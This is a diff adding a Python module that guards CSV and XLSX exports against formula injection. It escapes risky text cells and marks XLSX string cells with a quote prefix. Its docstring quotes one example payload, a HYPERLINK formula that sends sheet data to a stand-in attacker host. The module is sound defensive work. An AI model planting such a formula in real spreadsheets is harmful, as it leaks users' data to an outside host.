@@ -1,0 +1,151 @@
+"""Cells and files that a person opens in Excel or WPS: the one place for formula safety.
+
+Text from users (village names, station ids, notes) ends up in CSV and XLSX files. A spreadsheet
+program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or carriage
+return, the same) as a formula, so a village named ``=HYPERLINK("http://evil.example/?"&A2,"x")``
+would become a live link that leaks the sheet (CSV/formula injection). The rule here follows the
+OWASP advice:
+
+* CSV: a text cell whose first character is one of :data:`FORMULA_TRIGGERS` gets a leading
+  apostrophe (``'=HYPERLINK(...)``), which Excel and WPS show as text. Text that is a plain decimal
+  number (``-105``, ``+3.5``, ``-1e-3``) is left alone: it is a number, not a formula, and numbers
+  stored as numbers (float and int columns) are never touched. :func:`csv_unescape` undoes the
+  apostrophe when such a file is read back.
+* XLSX: text is written as a string cell (never a formula cell), and a risky one also carries
+  Excel's quote-prefix style, the flag Excel itself sets when someone types ``'=...``: the value
+  stays exactly as stored, and editing the cell keeps it text.
+
+Every CSV and XLSX writer of the project goes through :func:`write_csv`, :func:`safe_frame` or
+:func:`xlsx_cell`.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pandas as pd
+
+__all__ = ["FORMULA_TRIGGERS", "csv_text", "csv_unescape", "formula_risk", "safe_frame", "write_csv",
+           "write_xlsx", "xlsx_cell"]
+
+#: First characters that make a spreadsheet program read a cell as a formula (OWASP's list, and
+#: the full-width forms a Chinese input method types).
+FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
+
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def formula_risk(text: str) -> bool:
+    """True when ``text`` would be read as a formula by Excel or WPS.
+
+    A text that is a plain decimal number (``-105.5``) is no risk: it is read as that number.
+    """
+    return bool(text) and text[0] in FORMULA_TRIGGERS and _PLAIN_NUMBER.fullmatch(text) is None
+
+
+def csv_text(value: Any) -> Any:
+    """``value`` for a CSV cell: a risky text gets a leading apostrophe; anything else is unchanged."""
+    if isinstance(value, str) and formula_risk(value):
+        return "'" + value
+    return value
+
+
+def csv_unescape(text: str) -> str:
+    """The inverse of :func:`csv_text` for a text read back from a CSV file."""
+    if len(text) > 1 and text[0] == "'" and formula_risk(text[1:]):
+        return text[1:]
+    return text
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells are :func:`csv_text`-escaped (for CSV writers).
+
+    Only object and string columns are looked at; numeric, boolean and date columns are unchanged.
+    """
+    out = pd.DataFrame(frame).copy()
+    for name in out.columns:
+        column = out[name]
+        if column.dtype != object and not isinstance(column.dtype, pd.StringDtype):
+            continue
+        values = column.to_numpy(dtype=object)
+        risky = np.fromiter((isinstance(v, str) and formula_risk(v) for v in values), dtype=bool,
+                            count=len(values))
+        if risky.any():
+            values = values.copy()
+            values[risky] = ["'" + v for v in values[risky]]
+            out[name] = pd.Series(values, index=out.index, dtype=object)
+    return out
+
+
+def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
+    """Write ``frame`` as CSV for Excel in China: UTF-8 with BOM, CRLF, no index, formula-safe text."""
+    path = Path(path)
+    safe_frame(frame).to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
+    return path
+
+
+def _plain(value: Any) -> Any:
+    if value is None or value is pd.NA or value is pd.NaT:
+        return None
+    if isinstance(value, float) and value != value:
+        return None
+    if isinstance(value, pd.Timestamp):
+        return value.to_pydatetime()
+    if isinstance(value, np.generic):
+        return value.item()
+    return value
+
+
+def xlsx_cell(sheet: Any, value: Any, number_format: str | None = None) -> Any:
+    """An openpyxl cell for ``sheet`` (write-only or not; pass it to ``sheet.append``).
+
+    Missing values (None, NaN, NaT, NA) give None (an empty cell). Text is always a string cell,
+    never a formula; a risky text (:func:`formula_risk`) also gets Excel's quote prefix.
+    """
+    from openpyxl.cell import WriteOnlyCell
+
+    value = _plain(value)
+    if value is None:
+        return None
+    cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if formula_risk(value):
+            cell.quotePrefix = True
+    if number_format:
+        cell.number_format = number_format
+    return cell
+
+
+def write_xlsx(sheets: Mapping[str, pd.DataFrame], path: str | Path) -> Path:
+    """Write each frame of ``sheets`` as one sheet (header row frozen, formula-safe cells).
+
+    Columns are 10 to 28 characters wide, after the length of their header.
+
+    Sheet names are cut to Excel's 31 characters; the geometry of a GeoDataFrame is not written.
+    """
+    import openpyxl
+    from openpyxl.utils import get_column_letter
+
+    path = Path(path)
+    workbook = openpyxl.Workbook(write_only=True)
+    try:
+        for name, frame in sheets.items():
+            geometry = getattr(frame, "_geometry_column_name", None)
+            table = pd.DataFrame(frame.drop(columns=geometry) if geometry in frame.columns else frame)
+            sheet = workbook.create_sheet(str(name)[:31])
+            for j, header in enumerate(table.columns, start=1):
+                sheet.column_dimensions[get_column_letter(j)].width = max(10, min(28, len(str(header)) + 2))
+            sheet.freeze_panes = "A2"
+            sheet.append([xlsx_cell(sheet, str(h)) for h in table.columns])
+            columns = [table[h].astype(object).tolist() for h in table.columns]
+            for row in zip(*columns, strict=True):
+                sheet.append([xlsx_cell(sheet, v) for v in row])
+        workbook.save(path)
+    finally:
+        workbook.close()
+    return path
